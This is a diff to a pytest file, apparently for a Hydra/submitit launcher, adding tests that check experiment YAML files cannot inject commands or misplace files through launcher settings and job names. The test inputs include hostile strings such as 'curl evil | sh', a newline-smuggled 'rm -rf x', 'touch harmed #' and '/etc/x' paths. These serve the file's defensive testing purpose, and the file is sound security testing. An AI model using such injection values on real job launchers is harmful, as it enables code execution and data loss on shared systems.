@@ -560,10 +560,18 @@ def test_an_experiment_chooses_its_launcher() -> None:
 @pytest.mark.parametrize(
     ("setting", "place"),
     [
-        ("setup: ['curl evil | sh']", "hydra.launcher.setup.0"),
+        ("setup: ['curl evil | sh']", "hydra.launcher.setup"),
         ("submitit_folder: /elsewhere", "hydra.launcher.submitit_folder"),
         ('partition: "gpu\\nrm -rf x"', "hydra.launcher.partition"),
-        ("additional_parameters: {wrap: evil}", "hydra.launcher.additional_parameters.wrap"),
+        ("additional_parameters: {wrap: evil}", "hydra.launcher.additional_parameters"),
+        (
+            'additional_parameters: {"x\\ntouch harmed #": 5}',
+            "hydra.launcher.additional_parameters",
+        ),
+        ('additional_parameters: {"output=/etc/x": true}', "hydra.launcher.additional_parameters"),
+        ("setup: [5]", "hydra.launcher.setup"),
+        ('comment: "a\\nb"', "hydra.launcher.comment"),
+        ('name: "${hydra.job.name}x"', "hydra.launcher.name"),
     ],
 )
 def test_no_file_tells_a_launcher_what_to_run_or_where(setting: str, place: str) -> None:
@@ -580,6 +588,20 @@ def test_no_file_tells_a_launcher_what_to_run_or_where(setting: str, place: str)
     flags = own("experiment/mine.yaml", text)
     word = "hydra.launcher.submitit_folder=elsewhere"  # what one types oneself is one's own
     assert jobs(*flags, "-m", "experiment=mine", "seed=0,1", word)
+
+
+@pytest.mark.parametrize(
+    ("setting", "line"),
+    [
+        ('job: {name: "x\\ntouch harmed #"}', "hydra.job.name: can run code or misplace files"),
+        ("job: {name: '${model.name}'}", "hydra.job.name: can run code or misplace files"),
+        ('sweep: {dir: "x\\ntouch harmed #"}', r"hydra.sweep.dir: 'x\ntouch harmed #' holds char"),
+    ],
+)
+def test_no_file_puts_a_line_into_a_script_through_a_name(setting: str, line: str) -> None:
+    flags = own("experiment/mine.yaml", f"{GLOBAL}hydra: {{{setting}}}\n")
+    [found] = refused(*flags, "-m", "experiment=mine", "seed=0,1")
+    assert found.startswith(line)
 
 
 @pytest.mark.parametrize(
